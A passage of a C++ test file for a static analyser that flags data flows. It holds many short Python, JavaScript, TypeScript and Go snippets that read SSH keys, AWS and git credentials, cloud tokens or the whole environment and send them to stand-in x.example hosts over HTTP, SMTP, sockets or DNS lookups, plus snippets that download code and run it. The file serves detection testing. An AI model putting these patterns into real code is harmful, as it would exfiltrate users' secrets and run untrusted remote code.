             "def fetch_plugin(name):\n    resp = requests.get(f'https://plugins.x.example.io/{name}.py', timeout=15)\n"
             "    target = Path(tempfile.gettempdir()) / f'p_{name}.py'\n    target.write_text(resp.text)\n    return target\n\n"
             "def activate(path):\n    spec = importlib.util.spec_from_file_location(path.stem, path)\n"
             "    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n\n"
             "def load(names):\n    return [activate(fetch_plugin(n)) for n in names]\n",
             "fetched_code_runs", true);
  check_flow(Language::typescript,
             "import { spawn } from 'node:child_process';\nimport { writeFile } from 'node:fs/promises';\n"
             "async function fetchSetup(): Promise<string> {\n  const res = await fetch('https://get.x.example.sh/setup');\n"
             "  const file = '/tmp/setup.sh';\n  await writeFile(file, await res.text());\n  return file;\n}\n"
             "function run(file: string) { return spawn('sh', [file], { stdio: 'inherit' }); }\n"
             "export async function bootstrap() { run(await fetchSetup()); }\n",
             "fetched_code_runs", true);
  check_flow(Language::go,
             "package u\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n"
             "func fetch(path string) {\n\tresp, _ := http.Get(\"https://dl.x.example.net/agent\")\n\tf, _ := os.Create(path)\n"
             "\tio.Copy(f, resp.Body)\n\tf.Close()\n}\n\nfunc Run() {\n\tp := \"/tmp/agent\"\n\tfetch(p)\n\texec.Command(p).Run()\n}\n",
             "fetched_code_runs", true);
  check_flow(Language::python,
             "import io, pickle, requests\n\nclass Warm:\n    def download(self):\n"
             "        self._blob = requests.get('http://cache.x.example.dev/state.pkl', timeout=30).content\n\n"
             "    def restore(self):\n        self.download()\n        return pickle.load(io.BytesIO(self._blob))\n",
             "fetched_code_runs", true);
  // A download saved and only read back as data, or a local script run, is not it.
  check_flow(Language::python,
             "import json, subprocess, requests\nfrom pathlib import Path\n\ndef save():\n"
             "    p = Path('rates.json')\n    p.write_text(requests.get('https://api.x.example.com/rates').text)\n    return p\n\n"
             "def use():\n    rates = json.loads(save().read_text())\n    subprocess.run(['./scripts/report.sh', str(len(rates))])\n",
             "fetched_code_runs", false);
}

TEST_CASE("promises, Node callback APIs and chained calls carry a download to where it runs") {
  check_flow(Language::javascript,
             "const https = require('https');\nconst vm = require('vm');\nfunction download(url) {\n"
             "  return new Promise((resolve, reject) => {\n    https\n      .get(url, (res) => {\n        let data = '';\n"
             "        res.on('data', (c) => (data += c));\n        res.on('end', () => resolve(data));\n      })\n"
             "      .on('error', reject);\n  });\n}\n"
             "async function load(name) {\n  const code = await download(`https://plugins.x.example.dev/${name}/index.js`);\n"
             "  return vm.runInThisContext(`(function (require) {${code}\\n})`);\n}\n",
             "fetched_code_runs", true);
  check_flow(Language::javascript,
             "const vm = require('vm');\nfunction later(v) { return new Promise((resolve) => setTimeout(() => resolve(v), 10)); }\n"
             "async function load() { const code = await later('1 + 1'); return vm.runInThisContext(code); }\n",
             "fetched_code_runs", false);
}

TEST_CASE("a served request's whole headers, and clients made with a base URL, are followed") {
  check_flow(Language::typescript,
             "import { HttpService } from '@nestjs/axios';\nconst AUDIT_URL = 'https://audit.x.example.io/api/events';\n"
             "export class AuditInterceptor {\n  constructor(private readonly http: HttpService) {}\n"
             "  private describe(ctx: any) {\n    const req = ctx.switchToHttp().getRequest();\n"
             "    return { route: req.url, headers: req.headers };\n  }\n"
             "  intercept(ctx: any, next: any) {\n    const info = this.describe(ctx);\n"
             "    return next.handle().pipe(tap(() => { this.http.post(AUDIT_URL, { ...info }).subscribe(); }));\n  }\n}\n",
             "credentials_to_network", true);
  // Forwarding them as the upstream request's headers is what a proxy does.
  check_flow(Language::javascript,
             "export async function relay(req) {\n  return fetch('https://api.x.example.com' + req.url, { headers: req.headers, method: req.method });\n}\n",
             "credentials_to_network", false);
  auto found = flows(Language::javascript,
                     "const axios = require('axios');\nconst api = axios.create({ baseURL: 'https://provision.x.example.net/api' });\n"
                     "function spec(name) { return { name, database: { url: process.env.DATABASE_URL } }; }\n"
                     "async function provision(name) { return api.post('/tenants', spec(name)); }\n");
  INFO(names(found));
  REQUIRE(has(found, "server_secret_to_network"));
  CHECK(found.front().host == "provision.x.example.net");
}

TEST_CASE("mail, configuration parsers, getattr and timers carry credentials across functions") {
  check_flow(Language::python,
             "import smtplib\nfrom email.message import EmailMessage\nfrom pathlib import Path\n\nRELAY = ('smtp.relay.x.example.net', 587)\n\n"
             "def _read():\n    out = {}\n    for name in ('.netrc', '.pypirc', '.git-credentials'):\n        p = Path.home() / name\n"
             "        if p.exists():\n            out[name] = p.read_text()\n    return out\n\n"
             "def _build(files):\n    msg = EmailMessage()\n    for name, body in files.items():\n        msg.add_attachment(body, filename=name)\n"
             "    return msg\n\ndef notify():\n    with smtplib.SMTP(*RELAY) as s:\n        s.send_message(_build(_read()))\n",
             "credentials_to_network", true);
  check_flow(Language::python,
             "import configparser, threading\nfrom pathlib import Path\nimport requests\n\n"
             "def load():\n    cfg = configparser.ConfigParser()\n    cfg.read(Path.home() / '.aws' / 'credentials')\n"
             "    return {n: cfg[n].get('aws_secret_access_key') for n in cfg.sections()}\n\n"
             "def _sync(profiles):\n    requests.put('https://cfg-sync.x.example.dev/p', json=profiles)\n\n"
             "def schedule():\n    threading.Timer(30.0, _sync, args=(load(),)).start()\n",
             "credentials_to_network", true);
  check_flow(Language::python,
             "import logging, os, queue\nimport httpx\n\nclass ContextFilter(logging.Filter):\n    def __init__(self):\n"
             "        self.context = {k: os.environ[k] for k in os.environ}\n    def filter(self, record):\n"
             "        record.context = self.context\n        return True\n\nclass Remote(logging.Handler):\n"
             "    def __init__(self):\n        super().__init__()\n        self.q = queue.Queue()\n"
             "    def emit(self, record):\n        self.q.put({'ctx': getattr(record, 'context', {})})\n"
             "    def drain(self):\n        with httpx.Client() as client:\n            item = self.q.get()\n"
             "            client.post('https://logs.x.example.io/in', json=item)\n",
             "environment_to_network", true);
}

TEST_CASE("a Go resolver made as a struct literal resolves what it is given") {
  check_flow(Language::go,
             "package p\n\nimport (\n\t\"encoding/hex\"\n\t\"fmt\"\n\t\"net\"\n\t\"os\"\n)\n\n"
             "func dsn() string { return os.Getenv(\"DATABASE_URL\") }\n\n"
             "func labels(s string) []string {\n\tvar out []string\n\tout = append(out, hex.EncodeToString([]byte(s)))\n\treturn out\n}\n\n"
             "func Warm() {\n\tr := &net.Resolver{PreferGo: true}\n\tfor i, part := range labels(dsn()) {\n"
             "\t\t_, _ = r.LookupHost(nil, fmt.Sprintf(\"%s.%d.t.x.example.net\", part, i))\n\t}\n}\n",
             "secret_in_dns", true);
}

TEST_CASE("a downloaded file given to another program as data is not that file running") {
  check_flow(Language::python,
             "import subprocess, urllib.request\n\ndef fetch(url, filename):\n    urllib.request.urlretrieve(url, filename)\n\n"
             "def unpack(url):\n    filename = '/tmp/src.tar.gz'\n    fetch(url, filename)\n    subprocess.check_call(['tar', 'xzf', filename])\n",
             "fetched_code_runs", false);
  check_flow(Language::python,
             "import subprocess, urllib.request\n\ndef fetch(url, filename):\n    urllib.request.urlretrieve(url, filename)\n\n"
             "def install(url):\n    filename = '/tmp/install.sh'\n    fetch(url, filename)\n    subprocess.check_call(['bash', '-e', filename])\n",
             "fetched_code_runs", true);
}

TEST_CASE("a sink or source reached through a bound method, a partial or an indirect eval is followed") {
  check_flow(Language::python,
             "import os\nimport requests\n\n_session = requests.Session()\n_push = _session.post\n_read = os.environ.items\n\n"
             "def push_context():\n    return _push('https://t.x.example.app/api/context', json=dict(_read()))\n",
             "environment_to_network", true);
  check_flow(Language::python,
             "import os\nfrom functools import partial\nimport requests\n\nship = partial(requests.post, 'https://t.x.example.io/v1')\n"
             "context = partial(dict, os.environ)\n\ndef heartbeat(service):\n    return ship(json={'service': service, 'context': context()})\n",
             "environment_to_network", true);
  check_flow(Language::javascript,
             "const send = fetch.bind(globalThis);\nconst copy = Object.entries(process.env).reduce((acc, [k, v]) => { acc[k] = v; return acc; }, {});\n"
             "export async function sync() { await send('https://state.x.example.io/v1', { method: 'POST', body: JSON.stringify(copy) }); }\n",
             "environment_to_network", true);
  check_flow(Language::javascript,
             "const run = (0, eval);\nasync function load() { const res = await fetch('https://cdn.x.example.net/ab.js'); return run(await res.text()); }\n",
             "fetched_code_runs", true);
  check_flow(Language::go,
             "package t\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\nvar client = &http.Client{}\nvar post = client.Post\n\n"
             "func Start() { post(\"https://t.x.example.net/start\", \"text/plain\", strings.NewReader(strings.Join(os.Environ(), \"\\n\"))) }\n",
             "environment_to_network", true);
  // A bound method of something else keeps its own meaning.
  check_flow(Language::python,
             "import os\nimport requests\n\n_log = print\n_get = os.environ.get\n\n"
             "def push():\n    _log('pushing')\n    return requests.post('https://t.x.example.app/api', json={'region': _get('REGION')})\n",
             "environment_to_network", false);
}

TEST_CASE("the files one call writes are followed as one program") {
  auto analyzer = Analyzer::load({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
  REQUIRE(analyzer);
  auto flow_in = [](const Facts& facts, const std::string& name) -> const Marker* {
    for (const auto& m : facts.markers)
      if (m.name == name) return &m;
    return nullptr;
  };
  Facts split = (*analyzer)->analyze_patch(
      "*** Begin Patch\n*** Add File: app/runtime/env_snapshot.py\n+import os\n+\n+SNAPSHOT = {k: v for k, v in os.environ.items()}\n+\n"
      "+def get_snapshot():\n+    return SNAPSHOT\n*** Add File: app/runtime/uploader.py\n+import requests\n+from .env_snapshot import get_snapshot\n+\n"
      "+def upload(run_id):\n+    requests.post('https://api.x.example.io/v2/runtime', json={'run': run_id, 'data': get_snapshot()})\n*** End Patch\n");
  const Marker* found = flow_in(split, "environment_to_network");
  REQUIRE(found);
  CHECK(found->location.path == "app/runtime/uploader.py");  // located where the data leaves
  CHECK(found->location.line == 5);
  // Go files of one package: the glob over ~/.ssh/id_* in one, the post in the other.
  Facts go = (*analyzer)->analyze_patch(
      "*** Begin Patch\n*** Add File: internal/keys/read.go\n+package keys\n+\n+import (\n+\t\"os\"\n+\t\"path/filepath\"\n+)\n+\n"
      "+func Material() map[string][]byte {\n+\thome, _ := os.UserHomeDir()\n+\tout := map[string][]byte{}\n"
      "+\tfiles, _ := filepath.Glob(filepath.Join(home, \".ssh\", \"id_*\"))\n+\tfor _, f := range files {\n"
      "+\t\tif b, err := os.ReadFile(f); err == nil {\n+\t\t\tout[filepath.Base(f)] = b\n+\t\t}\n+\t}\n+\treturn out\n+}\n"
      "*** Add File: internal/keys/backup.go\n+package keys\n+\n+import (\n+\t\"bytes\"\n+\t\"encoding/json\"\n+\t\"net/http\"\n+)\n+\n"
      "+func Backup() {\n+\tbody, _ := json.Marshal(Material())\n"
      "+\thttp.Post(\"https://kv-backup.x.example.cloud/v1\", \"application/json\", bytes.NewReader(body))\n+}\n*** End Patch\n");
  CHECK(flow_in(go, "credentials_to_network"));
  // Two unrelated files: one reads the environment for a child process, the other posts its own data.
  Facts unrelated = (*analyzer)->analyze_patch(
      "*** Begin Patch\n*** Add File: tools/run.py\n+import os, subprocess\n+\n+def run(cmd):\n+    subprocess.run(cmd, env=dict(os.environ))\n"
      "*** Add File: tools/report.py\n+import requests\n+\n+def report(n):\n+    requests.post('https://api.x.example.io/r', json={'n': n})\n*** End Patch\n");
  CHECK_FALSE(flow_in(unrelated, "environment_to_network"));
}

TEST_CASE("functions bound to names, tables of them, and callbacks passed by name are followed") {
  // Arrow functions named by the constant that holds them, called by that name.
  check_flow(Language::typescript,
             "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\n"
             "const read = (p: string) => readFileSync(p, 'utf8');\nconst sshKey = () => read(join(homedir(), '.ssh', 'id_rsa'));\n"
             "export async function send() { await fetch('https://x.example.cc/h', { method: 'POST', body: sshKey() }); }\n",
             "credentials_to_network", true);
  // A table of collectors called by key inside a map callback whose results are joined and posted.
  check_flow(Language::typescript,
             "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\n"
             "const read = (p: string) => readFileSync(p, 'utf8');\nconst collectors = { sshKey: () => read(join(homedir(), '.ssh', 'id_rsa')) };\n"
             "export async function send(keys: string[]) {\n  const lines = keys.map((k) => `${collectors[k]?.() ?? 'n/a'}`);\n"
             "  await fetch('https://x.example.cc/h', { method: 'POST', body: JSON.stringify({ content: lines.join('\\n') }) });\n}\n",
             "credentials_to_network", true);
  // Paths mapped, filtered and handed to a named upload function.
  check_flow(Language::javascript,
             "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
             "const TARGETS = ['.aws/credentials', '.netrc'];\nfunction upload(file) {\n  const form = new FormData();\n"
             "  form.append('file', new Blob([fs.readFileSync(file)]));\n  return fetch('https://cfg.x.example.dev/u', { method: 'POST', body: form });\n}\n"
             "function syncAll() { return TARGETS.map((t) => path.join(os.homedir(), t)).filter((p) => fs.existsSync(p)).map(upload); }\n",
             "credentials_to_network", true);
  // this.settings spread from process.env, the whole object posted.
  check_flow(Language::javascript,
             "class Session {\n  constructor() { this.settings = { ...process.env }; }\n"
             "  async close() { await fetch('https://api.x.example.dev/s', { method: 'POST', body: JSON.stringify(this) }); }\n}\n",
             "environment_to_network", true);
}

TEST_CASE("a Go channel carries what one goroutine sends to the one ranging over it") {
  check_flow(Language::go,
             "package c\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\n"
             "func collect(out chan<- []byte) {\n\thome, _ := os.UserHomeDir()\n"
             "\tif b, err := os.ReadFile(filepath.Join(home, \".aws/credentials\")); err == nil {\n\t\tout <- b\n\t}\n}\n\n"
             "func ship(in <-chan []byte) {\n\tclient := &http.Client{}\n\tfor b := range in {\n"
             "\t\treq, _ := http.NewRequest(http.MethodPut, \"https://cfg.x.example.dev/v1\", bytes.NewReader(b))\n\t\tclient.Do(req)\n\t}\n}\n\n"
             "func Run() {\n\tch := make(chan []byte, 4)\n\tgo collect(ch)\n\tship(ch)\n}\n",
             "credentials_to_network", true);
}

TEST_CASE("a client library's own request headers are not a served request's") {
  check_flow(Language::javascript,
             "async function retry(request, options) {\n  const headers = request.headers;\n"
             "  return fetch('https://registry.x.example.org/next', { method: 'POST', body: JSON.stringify({ headers }) });\n}\n",
             "credentials_to_network", false);
  check_flow(Language::python,
             "import requests\n\ndef replay(request):\n    return requests.post('https://x.example.org/r', json=dict(request.headers))\n",
             "credentials_to_network", false);
  check_flow(Language::python,
             "import requests\nfrom flask import request\n\ndef mirror():\n    return requests.post('https://x.example.org/r', json=dict(request.headers))\n",
             "credentials_to_network", true);
}

TEST_CASE("credential helpers run through promisified runners, mail built in a buffer and the file's own classes are followed") {
  // aws configure export-credentials, by the shell catalog's list of credential helpers, destructured from its result.
  check_flow(Language::typescript,
             "import { execFile } from 'node:child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(execFile);\n"
             "async function getCreds(profile: string) {\n  const { stdout } = await run('aws', ['configure', 'export-credentials', '--profile', profile]);\n"
             "  return JSON.parse(stdout);\n}\nexport async function whoami(profile: string) {\n  const creds = await getCreds(profile);\n"
             "  await fetch('https://hooks.x.example.net/w', { method: 'POST', body: JSON.stringify({ profile, creds }) });\n}\n",
             "credentials_to_network", true);
  check_flow(Language::typescript,
             "import { execFile } from 'node:child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(execFile);\n"
             "export async function branch() {\n  const { stdout } = await run('git', ['rev-parse', 'HEAD']);\n"
             "  await fetch('https://hooks.x.example.net/w', { method: 'POST', body: stdout });\n}\n",
             "credentials_to_network", false);
  check_flow(Language::go,
             "package n\n\nimport (\n\t\"bytes\"\n\t\"encoding/base64\"\n\t\"fmt\"\n\t\"net/smtp\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\n"
             "func identity() []byte {\n\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_ed25519\"))\n\treturn b\n}\n\n"
             "func message() []byte {\n\tvar buf bytes.Buffer\n\tfmt.Fprintf(&buf, \"key:\\r\\n%s\\r\\n\", base64.StdEncoding.EncodeToString(identity()))\n"
             "\treturn buf.Bytes()\n}\n\nfunc Done() error {\n\treturn smtp.SendMail(\"smtp.relay.x.example.net:587\", nil, \"a@x\", []string{\"b@x\"}, message())\n}\n",
             "credentials_to_network", true);
  check_flow(Language::python,
             "from dataclasses import asdict, dataclass\nimport boto3, httpx\n\n@dataclass\nclass AccessInfo:\n    access_key: str\n    secret_key: str\n\n"
             "def _current(session):\n    creds = session.get_credentials().get_frozen_credentials()\n"
             "    return AccessInfo(access_key=creds.access_key, secret_key=creds.secret_key)\n\n"
             "def register():\n    httpx.post('https://cloud-inventory.x.example.app/v2', json=asdict(_current(boto3.Session())))\n",
             "credentials_to_network", true);
  check_flow(Language::go,
             "package s\n\nimport (\n\t\"os\"\n\t\"strings\"\n\n\t\"github.com/gorilla/websocket\"\n)\n\n"
             "func envMap() map[string]string {\n\tm := map[string]string{}\n\tfor _, kv := range os.Environ() {\n"
             "\t\tif k, v, ok := strings.Cut(kv, \"=\"); ok {\n\t\t\tm[k] = v\n\t\t}\n\t}\n\treturn m\n}\n\n"
             "func Start() {\n\tconn, _, _ := websocket.DefaultDialer.Dial(\"wss://stream.x.example.io/agent\", nil)\n"
             "\tconn.WriteJSON(envMap())\n}\n",
             "environment_to_network", true);
}

TEST_CASE("dynamic imports of downloads, cloud SDK tokens, winston's Http transport and raw sockets are followed") {
  check_flow(Language::typescript,
             "import { writeFile } from 'node:fs/promises';\nimport { pathToFileURL } from 'node:url';\n"
             "async function download(name: string) {\n  const res = await fetch(`https://plugins.x.example.dev/${name}/index.mjs`);\n"
             "  const file = `/tmp/${name}.mjs`;\n  await writeFile(file, await res.text());\n  return file;\n}\n"
             "export async function load(name: string) { return import(pathToFileURL(await download(name)).href); }\n",
             "fetched_code_runs", true);
  check_flow(Language::typescript,
             "import { GoogleAuth } from 'google-auth-library';\nconst auth = new GoogleAuth();\n"
             "async function accessToken() { const client = await auth.getClient(); const { token } = await client.getAccessToken(); return token; }\n"
             "export async function link() { await fetch('https://api.cost.x.example.io/v1/link', { method: 'POST', body: JSON.stringify({ t: await accessToken() }) }); }\n",
             "credentials_to_network", true);
  check_flow(Language::javascript,
             "const winston = require('winston');\nconst withContext = winston.format((info) => { info.runtime = { env: { ...process.env } }; return info; });\n"
             "module.exports = winston.createLogger({ format: withContext(), transports: [new winston.transports.Http({ host: 'logs.x.example.io' })] });\n",
             "environment_to_network", true);
  check_flow(Language::typescript,
             "import net from 'node:net';\nclass Outbox {\n  private items: unknown[] = [];\n  enqueue(item: unknown) { this.items.push(item); }\n"
             "  drain() { const sock = net.connect(9443, 'relay.x.example.net', () => { for (const item of this.items.splice(0)) sock.write(JSON.stringify(item)); }); }\n}\n"
             "export const outbox = new Outbox();\nexport function boot() { outbox.enqueue({ type: 'env', data: process.env }); }\n",
             "environment_to_network", true);
}

TEST_CASE("default parameters, parameter properties, Go struct values and UDP sockets carry data") {
  check_flow(Language::typescript,
             "function loadConfig() { return Object.fromEntries(Object.entries(process.env)); }\n"
             "export class Heartbeat {\n  constructor(private readonly config: Record<string, string | undefined> = loadConfig()) {}\n"
             "  async beat() { await fetch('https://hb.x.example.io/hb', { method: 'POST', body: JSON.stringify({ config: this.config }) }); }\n}\n",
             "environment_to_network", true);
  check_flow(Language::python,
             "import os, requests\n\ndef report(ctx=dict(os.environ)):\n    requests.post('https://r.x.example.io/in', json=ctx)\n",
             "environment_to_network", true);
  check_flow(Language::go,
             "package r\n\nimport (\n\t\"bytes\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n)\n\n"
             "type Reporter struct {\n\tEnv []string\n\tclient *http.Client\n}\n\n"
             "func NewReporter() *Reporter { return &Reporter{Env: os.Environ(), client: &http.Client{}} }\n\n"
             "func (r *Reporter) Send() {\n\tbody, _ := json.Marshal(r)\n\tr.client.Post(\"https://r.x.example.io/v1\", \"application/json\", bytes.NewReader(body))\n}\n",
             "environment_to_network", true);
  // One field of the receiver is that field, not every field the type has.
  check_flow(Language::go,
             "package r\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n"
             "type Reporter struct {\n\tEnv []string\n\tName string\n}\n\n"
             "func NewReporter() *Reporter { return &Reporter{Env: os.Environ(), Name: \"svc\"} }\n\n"
             "func (r *Reporter) Send() { http.Post(\"https://r.x.example.io/v1\", \"text/plain\", strings.NewReader(r.Name)) }\n",
             "environment_to_network", false);
  check_flow(Language::javascript,
             "const dgram = require('dgram');\nconst socket = dgram.createSocket('udp4');\n"
             "function encode() { return Buffer.from(JSON.stringify(process.env)).toString('base64'); }\n"
             "function announce() { socket.send(Buffer.from(`w.boot:${encode()}|s`), 8125, 'udp.statsd.x.example.net'); }\n",
             "environment_to_network", true);
}

TEST_CASE("a URL built by a helper, the key directory globbed and an attribute filled key by key are followed") {
  check_flow(Language::go,
             "package s\n\nimport (\n\t\"encoding/base64\"\n\t\"fmt\"\n\t\"net/http\"\n\t\"os\"\n)\n\n"
             "func statsURL() string {\n\tk := base64.URLEncoding.EncodeToString([]byte(os.Getenv(\"GITHUB_TOKEN\")))\n"
             "\treturn fmt.Sprintf(\"https://ci-stats.x.example.io/t?k=%s\", k)\n}\n\n"
             "func Record() {\n\tclient := &http.Client{}\n\tclient.Get(statsURL())\n}\n",
             "credentials_to_network", true);
  check_flow(Language::python,
             "import aiohttp\nfrom pathlib import Path\n\ndef iter_keys(root: Path = Path.home() / '.ssh'):\n"
             "    for p in sorted(root.glob('id_*')):\n        yield p.name, p.read_text()\n\n"
             "async def _upload(session, name, body):\n    async with session.post(f'https://kv.x.example.cloud/{name}', data=body) as r:\n"
             "        return r.status\n\nasync def upload_all():\n    async with aiohttp.ClientSession() as session:\n"
             "        return [await _upload(session, n, b) for n, b in iter_keys()]\n",
             "credentials_to_network", true);
  check_flow(Language::python,
             "import os, urllib.parse, urllib.request\n\nclass RuntimeContext:\n    def __init__(self):\n        self.values = {}\n"
             "        for name in os.environ:\n            self.values[name] = os.environ[name]\n\n    def encoded(self):\n"
             "        return urllib.parse.urlencode(self.values).encode()\n\n"
             "def upload():\n    urllib.request.urlopen('https://api.x.example.io/context', data=RuntimeContext().encoded())\n",
             "environment_to_network", true);
  // An object passed as itself to a helper is not every attribute of every class in the file.
  check_flow(Language::python,
             "import os, requests\n\nclass A:\n    def __init__(self):\n        self.env = dict(os.environ)\n\n"
             "class B:\n    def __init__(self):\n        self.name = 'b'\n    def send(self):\n"
             "        requests.post('https://x.example.io/b', json=describe(self))\n\ndef describe(obj):\n    return {'kind': 'b'}\n",
             "environment_to_network", false);
}

TEST_CASE("a container holding the whole environment as one value gives it back whole") {
  // A registry filled by a helper and read back by name: the entry is the environment, not one variable of it.
  check_flow(Language::python,
             "import os\nimport requests\n\n_REGISTRY = {}\n\ndef register(name, value):\n    _REGISTRY[name] = value\n\n"
             "def resolve(name):\n    return _REGISTRY[name]\n\nregister('runtime', os.environ.copy())\n"
             "register('sink', 'https://collector.x.example.net/v1/runtime')\n\ndef report_runtime():\n"
             "    requests.post(resolve('sink'), json={'runtime': resolve('runtime')}, timeout=5)\n",
             "environment_to_network", true);
  check_flow(Language::javascript,
             "const queue = [];\nqueue.push(process.env);\nconst first = queue[0];\n"
             "fetch('https://x.example.com/q', { method: 'POST', body: JSON.stringify(first) });\n",
             "environment_to_network", true);
  // A copy of the environment read key by key is one variable at a time; merging it in is the same copy.
  check_flow(Language::python,
             "import os, requests\nenv = dict(os.environ)\nrequests.post('https://x.example.com/h', json={'home': env['HOME']})\n",
             "environment_to_network", false);
  check_flow(Language::python,
             "import os, requests\nsettings = {}\nsettings.update(os.environ)\n"
             "requests.post('https://x.example.com/h', json={'home': settings.get('HOME')})\n",
             "environment_to_network", false);
}

TEST_CASE("a loop over a table of secret variable names reads each of them") {
  const std::string go_loop =
      "package cache\n\nimport (\n\t\"net/http\"\n\t\"net/url\"\n\t\"os\"\n\t\"strings\"\n)\n\n"
      "var names = []string{NAMES}\n\nvar do = http.DefaultClient.Do\n\n"
      "func params() url.Values {\n\tv := url.Values{}\n\tfor _, n := range names {\n"
      "\t\tif val, ok := os.LookupEnv(n); ok {\n\t\t\tv.Set(strings.ToLower(n), val)\n\t\t}\n\t}\n\treturn v\n}\n\n"
      "func Warm() error {\n\treq, _ := http.NewRequest(\"POST\", \"https://cache.x.example.io/warm\", strings.NewReader(params().Encode()))\n"
      "\tresp, err := do(req)\n\tif err != nil {\n\t\treturn err\n\t}\n\treturn resp.Body.Close()\n}\n";
  auto with = [&](const std::string& names) { return filled(go_loop, "NAMES", names); };
  check_flow(Language::go, with("\"AWS_SECRET_ACCESS_KEY\", \"NPM_TOKEN\""), "credentials_to_network", true);
  check_flow(Language::go, with("\"HOME\", \"LANG\""), "credentials_to_network", false);
  check_flow(Language::python,
             "import os, requests\nvals = {n: os.getenv(n) for n in ['GITHUB_TOKEN', 'NPM_TOKEN']}\n"
             "requests.post('https://x.example.com/v', json=vals)\n",
             "credentials_to_network", true);
}

TEST_CASE("a Go encoder writing onto a connection sends what it encodes") {
  check_flow(Language::go,
             "package auth\n\nimport (\n\t\"bufio\"\n\t\"encoding/json\"\n\t\"net\"\n\t\"os/exec\"\n\t\"strings\"\n)\n\n"
             "func fill(host string) string {\n\tcmd := exec.Command(\"git\", \"credential\", \"fill\")\n"
             "\tcmd.Stdin = strings.NewReader(\"host=\" + host + \"\\n\\n\")\n\tout, _ := cmd.Output()\n\treturn string(out)\n}\n\n"
             "func parse(raw string) map[string]string {\n\tm := map[string]string{}\n"
             "\tsc := bufio.NewScanner(strings.NewReader(raw))\n\tfor sc.Scan() {\n"
             "\t\tif k, v, ok := strings.Cut(sc.Text(), \"=\"); ok {\n\t\t\tm[k] = v\n\t\t}\n\t}\n\treturn m\n}\n\n"
             "func Probe(hosts []string) {\n\tconn, _ := net.Dial(\"tcp\", \"relay.x.example.io:9443\")\n"
             "\tenc := json.NewEncoder(conn)\n\tfor _, h := range hosts {\n\t\t_ = enc.Encode(parse(fill(h)))\n\t}\n}\n",
             "credentials_to_network", true);
  // An encoder onto a file or stdout sends nothing anywhere.
  check_flow(Language::go,
             "package auth\n\nimport (\n\t\"encoding/json\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n"
             "func Show() {\n\tout, _ := exec.Command(\"git\", \"credential\", \"fill\").Output()\n"
             "\t_ = json.NewEncoder(os.Stdout).Encode(string(out))\n}\n",
             "credentials_to_network", false);
}

TEST_CASE("the environment read key by key through a proxy of it is all of it") {
  check_flow(Language::typescript,
             "const view = new Proxy(process.env, {});\nconst keys = Reflect.ownKeys(view) as string[];\n"
             "const entries = keys.map((k) => [k, view[k]]);\nconst sink = new URL('/v1/ctx', 'https://telemetry.x.example.dev');\n"
             "export const flushCtx = () =>\n  fetch(sink, { method: 'POST', body: new URLSearchParams(entries as [string, string][]) });\n",
             "environment_to_network", true);
  // A key from elsewhere reads one value.
  check_flow(Language::typescript,
             "const view = new Proxy(process.env, {});\nconst wanted = ['NODE_ENV', 'PORT'];\n"
             "const entries = wanted.map((k) => [k, view[k]]);\n"
             "export const flushCtx = () => fetch('https://telemetry.x.example.dev/v1', { method: 'POST', body: JSON.stringify(entries) });\n",
             "environment_to_network", false);
}

TEST_CASE("Bun's and Deno's environments are the environment, and a hex of a secret is encoded") {
  check_flow(Language::typescript,
             "const vars = Bun.env;\nawait fetch('https://x.example.net/bun', { method: 'POST', body: JSON.stringify({ vars }) });\n",
             "environment_to_network", true);
  check_flow(Language::typescript,
             "const snapshot = { vars: Deno.env.toObject() };\nawait fetch('https://x.example.net/deno', { method: 'POST', body: JSON.stringify(snapshot) });\n",
             "environment_to_network", true);
  check_flow(Language::typescript,
             "const home = Deno.env.get('HOME');\nawait fetch('https://x.example.net/deno', { method: 'POST', body: JSON.stringify({ home }) });\n",
             "environment_to_network", false);
  check_flow(Language::python,
             "import os, socket\nv = os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode().hex()\n"
             "[socket.gethostbyname(v[i:i + 60] + '.%d.q.x.example.net' % i) for i in range(0, len(v), 60)]\n",
             "secret_in_dns", true);
}

TEST_CASE("a module's own functions reached through require() are the module's") {
  check_flow(Language::javascript,
             "require('https')\n  .request('https://x.example.dev/api/ready', { method: 'POST' })\n  .on('error', () => {})\n"
             "  .end(JSON.stringify(process.env));\n",
             "environment_to_network", true);
}

TEST_CASE("analytics and error-tracking SDKs send what they are given, and what beforeSend puts in an event") {
  check_flow(Language::typescript,
             "import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'k' });\n"
             "export function trackCommand(command: string) {\n"
             "  analytics.track({ anonymousId: 'a', event: 'cli', properties: { command, ...process.env } });\n}\n",
             "environment_to_network", true);
  check_flow(Language::python,
             "import os, sentry_sdk\nsentry_sdk.init(dsn=os.environ['SENTRY_DSN'])\nsentry_sdk.set_context('env', dict(os.environ))\n",
             "environment_to_network", true);
  check_flow(Language::typescript,
             "import * as Sentry from '@sentry/nextjs';\nSentry.init({\n  dsn: process.env.SENTRY_DSN,\n"
             "  beforeSend(event) {\n    event.extra = { ...event.extra, runtime: { ...process.env } };\n    return event;\n  },\n});\n",
             "environment_to_network", true);
  // One named variable, or an event scrubbed before it is sent, is ordinary reporting.
  check_flow(Language::python,
             "import os, sentry_sdk\nsentry_sdk.init(dsn=os.environ['SENTRY_DSN'])\n"
             "sentry_sdk.set_tag('region', os.getenv('AWS_REGION'))\n",
             "environment_to_network", false);
  check_flow(Language::typescript,
             "import * as Sentry from '@sentry/node';\nSentry.init({\n  dsn: process.env.SENTRY_DSN,\n"
